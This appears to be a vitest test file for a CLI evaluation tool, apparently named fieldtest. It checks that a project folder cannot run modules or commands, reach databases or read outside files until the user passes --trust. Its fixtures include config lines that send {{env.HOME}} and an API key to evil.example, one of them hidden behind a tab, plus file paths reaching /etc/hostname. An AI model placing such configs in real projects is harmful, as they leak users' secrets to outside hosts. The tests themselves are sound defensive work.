/** A project folder from somebody else does nothing to this machine before the user says yes. */
import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { mkdir, symlink } from 'node:fs/promises';
import { type AddressInfo, createServer } from 'node:net';
import { dirname, join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { freshProject, jsonl } from '../fixtures/project.ts';

const MODULE =
  "import { writeFileSync } from 'node:fs';\nwriteFileSync('ran', '');\nexport const run = () => 'x';\n";
const SET = jsonl([{ input: 'question' }]);
const yaml = (candidate: string) => `task: t\ncandidates:\n  - ${candidate}\n`;

describe('without --trust', () => {
  test.each([
    ['a module', yaml('{ name: m, run: file://m.mjs }'), /m: runs m\.mjs/],
    ['a command', yaml('{ name: c, command: "touch ran" }'), /c: runs `touch ran`/],
    [
      'a secret sent by an endpoint',
      yaml('{ name: h, http: { url: "https://evil.example/x", headers: { a: "{{env.HOME}}" } } }'),
      /h: sends \{\{env\.HOME\}\} to https:\/\/evil\.example/,
    ],
    [
      'a secret behind a tab',
      yaml('{ name: h, http: { url: "https://evil.example/x", headers: { a: "{{\\tenv.HOME}}" } } }'),
      /h: sends \{\{.*env\.HOME\}\} to https:\/\/evil\.example/,
    ],
    [
      'a key sent elsewhere',
      yaml('{ name: k, model: "openai:gpt", baseUrl: "https://evil.example/v1", apiKeyEnv: SECRET }'),
      /k: sends SECRET to https:\/\/evil\.example/,
    ],
    [
      'a file outside of the folder',
      yaml('{ name: p, model: "openai:gpt", prompt: "file:///etc/hostname" }'),
      /p: reads \/etc\/hostname/,
    ],
    [
      'a guide outside of the folder',
      `${yaml('{ name: p, model: "openai:gpt" }')}rate: { guide: "file:///etc/hostname" }\n`,
      /rate\.guide: reads \/etc\/hostname/,
    ],
  ])('%s is refused and named', async (_what, config, fact) => {
    await using project = await freshProject(
      { 'fieldtest.yaml': config, 'm.mjs': MODULE, 'set.jsonl': SET },
      { SECRET: 'sk-1' },
    );
    await project.run('examples', 'import', 'set.jsonl');
    const { code, stderr } = await project.run('run');
    expect(code).toBe(1);
    expect(stderr).toMatch(fact);
    expect(stderr).toMatch(/--trust/);
    await expect(project.read('ran')).rejects.toThrow();
  });

  test('a link inside the folder that leads out of it counts as an outside file', async () => {
    await using project = await freshProject({
      'fieldtest.yaml': yaml('{ name: p, model: "openai:gpt", prompt: "file://prompt.md" }'),
      'set.jsonl': SET,
    });
    await symlink('/etc/hostname', join(project.dir, 'prompt.md'));
    await project.run('examples', 'import', 'set.jsonl');
    const { code, stderr } = await project.run('run');
    expect(code).toBe(1);
    expect(stderr).toMatch(/p: reads .*prompt\.md/);
  });

  test('a database of the config is not connected to, nor handed PGPASSWORD', async () => {
    const connections: unknown[] = [];
    const server = createServer((socket) => {
      connections.push(socket);
      socket.destroy();
    }).listen(0, '127.0.0.1');
    await once(server, 'listening');
    const { port } = server.address() as AddressInfo;
    const store = `postgres://me:word@127.0.0.1:${port}/team?host=127.0.0.1`;
    const config = `${yaml('{ name: c, command: cat }')}store: ${store}\n`;
    await using project = await freshProject({ 'fieldtest.yaml': config }, { PGPASSWORD: 'canary' });
    const { code, stderr } = await project.run('status');
    expect(code).toBe(1);
    expect(stderr).toContain(`connects to postgres://127.0.0.1:${port}/team?host=127.0.0.1`);
    expect(stderr).not.toContain('word');
    expect(connections).toHaveLength(0);
    expect((await project.run('status', '--trust')).stderr).toMatch(/cannot be reached/);
    expect(connections).not.toHaveLength(0);
    server.close();
  });

  test.each([
    ['.fieldtest', '.'],
    ['.fieldtest/fieldtest.db', 'fieldtest.db'],
  ])('data behind a link out of the folder, %s, is not opened', async (link, target) => {
    await using elsewhere = await freshProject();
    await using project = await freshProject({ 'fieldtest.yaml': yaml('{ name: c, command: cat }') });
    await mkdir(dirname(join(project.dir, link)), { recursive: true });
    await symlink(join(elsewhere.dir, target), join(project.dir, link));
    const { code, stderr } = await project.run('status');
    expect(code).toBe(1);
    expect(stderr).toMatch(/keeps its data outside of it/);
    await expect(elsewhere.read('fieldtest.db')).rejects.toThrow();
  });

  test.each([
    ['a module', '{ name: z, run: "file:///dev/zero" }', '/dev/zero'],
    ['what a module imports', '{ name: z, run: "file://m.mjs" }', 'zero.mjs'],
    ['a prompt', '{ name: z, model: "openai:gpt", prompt: "file:///dev/zero" }', '/dev/zero'],
    ['a prompt that is a pipe', '{ name: z, model: "openai:gpt", prompt: "file://pipe" }', 'pipe'],
    ['recorded outputs', '{ name: z, recorded: "file:///dev/zero" }', '/dev/zero'],
  ])('%s that never ends is refused, not read', async (_what, candidate, file) => {
    await using project = await freshProject({
      'fieldtest.yaml': yaml(candidate),
      'm.mjs': "import './zero.mjs';\nexport const run = () => 'x';\n",
      'set.jsonl': SET,
    });
    await symlink('/dev/zero', join(project.dir, 'zero.mjs'));
    execFileSync('/bin/sh', ['-c', 'mkfifo pipe'], { cwd: project.dir });
    await project.run('examples', 'import', 'set.jsonl');
    const { code, stderr } = await project.run('run', '--trust');
    expect(code).toBe(1);
    expect(stderr).toMatch(/^error: fieldtest\.yaml:3:\d+: .*not a regular file/);
    expect(stderr).toContain(file);
  });

  test('a command that names a device is not read before it runs', async () => {
    await using project = await freshProject({
      'fieldtest.yaml': yaml('{ name: c, command: "cat /dev/zero" }'),
    });
    expect(await project.run('status')).toMatchObject({ code: 0 });
  });

  test('a config that never ends is refused', async () => {
    await using project = await freshProject();
    await symlink('/dev/zero', join(project.dir, 'fieldtest.yaml'));
    expect((await project.run('status')).stderr).toMatch(
      /fieldtest\.yaml cannot be read: .*not a regular file/,
    );
  });

  test('a prompt that no model could read is refused', async () => {
    await using project = await freshProject({
      'fieldtest.yaml': yaml('{ name: p, model: "openai:gpt", prompt: "file://prompt.md" }'),
      'prompt.md': 'x'.repeat(1_100_000),
      'set.jsonl': SET,
    });
    await project.run('examples', 'import', 'set.jsonl');
    expect((await project.run('run')).stderr).toMatch(/:3:\d+: prompt\.md: is larger than 1 MB/);
  });

  test('a config that is code is not even read', async () => {
    const config =
      "import { writeFileSync } from 'node:fs';\nwriteFileSync('ran', '');\nexport default { task: 't', candidates: [{ name: 'c', command: 'cat' }] };\n";
    await using project = await freshProject({ 'fieldtest.config.ts': config });
    const { code, stderr } = await project.run('status');
    expect(code).toBe(1);
    expect(stderr).toMatch(/runs fieldtest\.config\.ts/);
    await expect(project.read('ran')).rejects.toThrow();
    expect(await project.json('status', '--trust')).toMatchObject({ task: 't' });
  });

  test('everything that runs no code works: status, import, pick, decide', async () => {
    await using project = await freshProject({
      'fieldtest.yaml': yaml('{ name: m, run: file://m.mjs }'),
      'm.mjs': MODULE,
      'log.jsonl': SET,
    });
    for (const command of [['status'], ['import', 'log.jsonl'], ['pick'], ['examples', 'export']]) {
      expect(await project.run(...command), command.join(' ')).toMatchObject({ code: 0 });
    }
    await expect(project.read('ran')).rejects.toThrow();
  });
});

describe('trust that was given', () => {
  test('by init for what its flags named lasts until the code changes', async () => {
    await using project = await freshProject({ 'm.mjs': MODULE, 'set.jsonl': SET });
    await project.run('init', '--task', 't', '--run', 'm.mjs');
    await project.run('examples', 'import', 'set.jsonl');
    expect(await project.run('run')).toMatchObject({ code: 0 });
    await project.write('m.mjs', `${MODULE}// changed by somebody\n`);
    expect((await project.run('run')).stderr).toMatch(/runs m\.mjs/);
    expect(await project.run('run', '--trust')).toMatchObject({ code: 0 });
  });

  test('ends when a file changes that the module imports, which is new code and a new candidate', async () => {
    const entry = "import { say } from './lib/say.mjs';\nexport const run = () => say();\n";
    const said = (word: string) => `export const say = () => '${word}';\n`;
    await using project = await freshProject({
      'm.mjs': entry,
      'lib/say.mjs': said('one'),
      'set.jsonl': SET,
    });
    await project.run('init', '--task', 't', '--run', 'm.mjs');
    await project.run('examples', 'import', 'set.jsonl');
    expect(await project.run('run')).toMatchObject({ code: 0 });
    await project.write('lib/say.mjs', said('two'));
    expect((await project.run('run')).stderr).toMatch(/runs m\.mjs/);
    expect(await project.json('run', '--trust')).toMatchObject({ candidates: [{ added: 1 }] });
    expect((await project.run('outputs', 'export')).stdout).toContain('"output":"two"');
  });

  test('by FIELDTEST_TRUST=1 holds for that call', async () => {
    await using project = await freshProject(
      { 'fieldtest.yaml': yaml('{ name: m, run: file://m.mjs }'), 'm.mjs': MODULE, 'set.jsonl': SET },
      { FIELDTEST_TRUST: '1' },
    );
    await project.run('examples', 'import', 'set.jsonl');
    expect(await project.run('run')).toMatchObject({ code: 0 });
  });
});
